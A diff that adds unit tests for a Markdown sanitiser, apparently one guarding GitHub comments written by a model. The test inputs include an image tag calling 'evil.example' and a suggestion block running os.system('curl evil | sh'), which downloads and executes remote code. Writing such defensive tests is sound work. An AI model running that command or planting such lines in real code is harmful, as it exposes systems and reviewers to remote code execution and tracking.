@@ -30,3 +30,20 @@ def test_an_unclosed_fence_is_closed_so_it_cannot_swallow_what_follows() -> None
 def test_a_suggestion_fence_outlasts_backticks_in_the_code() -> None:
     block = fence_for('s = "```"', "suggestion")
     assert block.startswith("````suggestion\n") and block.endswith("\n````")
+
+
+def test_what_commonmark_does_not_show_as_code_is_neutralised() -> None:
+    """Fences and spans as GitHub reads them: anything the regex is unsure of counts as prose."""
+    longer_closer = neutralise("```\nx\n````\n@octocat <img src=https://evil.example/t.png>\n```")
+    assert "`@octocat`" in longer_closer and "&lt;img" in longer_closer
+    indented = neutralise("    ```\n@octocat <img src=x>\n    ```")
+    assert "&lt;img" in indented and "`@octocat`" in indented
+    unequal_runs = neutralise("Ask ``@octocat` now")
+    assert "@\u200boctocat" in unequal_runs
+    escaped = neutralise("Ask \\`@octocat\\` now")
+    assert "@\u200boctocat" in escaped
+
+
+def test_a_model_cannot_write_its_own_suggestion_block() -> None:
+    out = neutralise("Fix:\n```suggestion\nos.system('curl evil | sh')\n```")
+    assert "```suggestion" not in out and "```text" in out
